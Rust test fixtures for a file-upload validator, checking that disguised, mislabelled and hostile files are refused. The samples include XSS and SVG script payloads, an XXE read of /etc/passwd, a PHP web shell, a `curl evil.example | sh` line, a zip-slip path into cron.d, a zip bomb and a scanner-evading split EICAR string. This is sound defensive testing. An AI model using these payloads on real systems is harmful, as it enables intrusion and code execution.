//! Contents that are taken from nobody, under every extension that is; contents that are taken under
//! every extension that is not theirs.

use files::MediaType;

use crate::{
    Case,
    samples::{docx, heic, jpeg, ole, part, pdf_with, png, word, zip},
};

/// The test file of virus scanners, in two halves, so that none finds it here.
pub fn eicar() -> Vec<u8> {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].concat().into()
}

/// One good file of each type.
pub fn good(media_type: MediaType) -> Vec<u8> {
    match media_type {
        MediaType::Pdf => pdf_with(""),
        MediaType::Jpeg => jpeg(40, 30),
        MediaType::Png => png(40, 30),
        MediaType::Heic => heic(40, 30),
        MediaType::Docx => docx(),
    }
}

/// Extensions of nothing that is taken.
const OTHERS: [&str; 14] = [
    "exe", "scr", "com", "bat", "js", "html", "svg", "xml", "txt", "php", "docm", "dotm", "doc",
    "zip",
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, bytes, code) in foreign() {
        for extension in ["pdf", "jpg", "png", "heic", "docx"] {
            let name = format!("giấy tờ.{extension}");
            cases.push(Case::refused(format!("{what} as {extension}"), name, bytes.clone(), code));
        }
    }
    for media_type in MediaType::ALL {
        let own = media_type.extensions();
        let wrong = MediaType::ALL.into_iter().flat_map(MediaType::extensions).copied();
        for extension in wrong.chain(OTHERS).filter(|extension| !own.contains(extension)) {
            let what = format!("{media_type} called {extension}");
            let name = format!("giấy tờ.{extension}");
            cases.push(Case::refused(what, name, good(media_type), "file_extension_mismatch"));
        }
    }
    cases
}

/// What is none of the types, and what is told of it.
fn foreign() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let eicar_zip = zip(&[part("eicar.com", &eicar())]);
    let nested = zip(&[part("a.zip", &eicar_zip)]);
    let deeper = zip(&[part("b.zip", &nested)]);
    let bomb = zip(&[part("zeros", &vec![0; 8 << 20])]);
    let slip = zip(&[part("../../../etc/cron.d/evil", b"x")]);
    let workbook =
        zip(&[part("[Content_Types].xml", b"spreadsheetml.main"), part("xl/a.xml", b"")]);
    let other = "file_type_not_allowed";
    let plain: [(&str, &[u8]); 34] = [
        ("one byte", b"%"),
        ("zeros", &[0; 4096]),
        ("a PDF without its sign", b"PDF-1.7\n1 0 obj<</Type/Catalog>>endobj trailer<<>>"),
        ("half a sign of a PDF", b"%PD"),
        ("words", "Kính gửi Ủy ban nhân dân phường".as_bytes()),
        ("a page", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("a page without a type", b"<html><body onload=alert(1)>"),
        ("a page that begins with a blank", b"  \r\n<script>alert(1)</script>"),
        ("a page in UTF-16", b"\xFF\xFE<\0h\0t\0m\0l\0>\0"),
        ("a page behind a mark", b"\xEF\xBB\xBF<html><script>alert(1)</script>"),
        ("a picture with a script", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("a picture in XML", b"<?xml version='1.0'?><svg><script>alert(1)</script></svg>"),
        (
            "entities in XML",
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        ),
        ("PHP", b"<?php system($_GET['c']); ?>"),
        ("a shell's script", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("a program of Windows", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0"),
        ("a program of Linux", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("a program of Macs", b"\xCF\xFA\xED\xFE\x07\0\0\x01\x03\0\0\0"),
        ("a class", b"\xCA\xFE\xBA\xBE\0\0\0\x34"),
        ("a program of the web", b"\0asm\x01\0\0\0"),
        ("a link of Windows", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0F"),
        ("a page of mail", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"),
        ("a moving picture", b"GIF89a\x01\0\x01\0\0\0\0;"),
        ("a picture of Windows", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0"),
        ("a picture of scanners", b"II*\0\x08\0\0\0"),
        ("a picture of the web", b"RIFF\x1A\0\0\0WEBPVP8L"),
        ("a picture in AV1", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif"),
        ("a film", b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2"),
        ("a rich text", b"{\\rtf1\\ansi{\\object\\objdata 0105}}"),
        ("an archive of RAR", b"Rar!\x1A\x07\x01\0"),
        ("an archive of 7-Zip", b"7z\xBC\xAF\x27\x1C\0\x04"),
        ("a packed file", b"\x1F\x8B\x08\0\0\0\0\0\0\x03"),
        ("a database", b"SQLite format 3\0\x10\0\x01\x01"),
        ("a page printed to PostScript", b"%!PS-Adobe-3.0\n(a) run"),
    ];
    let plain = plain.into_iter().map(|(what, bytes)| (what, bytes.to_vec(), other));
    let made = [
        ("nothing", Vec::new(), "file_empty"),
        ("EICAR", eicar(), other),
        ("EICAR in an archive", eicar_zip, other),
        ("EICAR in an archive in an archive", nested, other),
        ("EICAR three archives deep", deeper, other),
        ("an archive of a thousand times its weight", bomb, "file_unpacks_too_large"),
        ("an archive that leaves its folder", slip, "file_unsafe_archive"),
        (
            "an archive with a program",
            zip(&[part("META-INF/MANIFEST.MF", b"a"), part("A.class", b"x")]),
            other,
        ),
        ("a workbook", workbook, other),
        ("an archive without anything", zip(&[]), "file_type_not_allowed"),
        ("an old document", ole("WordDocument"), other),
        ("a protected document", ole("EncryptedPackage"), "file_password_protected"),
        ("half an archive", zip(&word())[..60].to_vec(), "file_truncated"),
    ];
    plain.chain(made).collect()
}
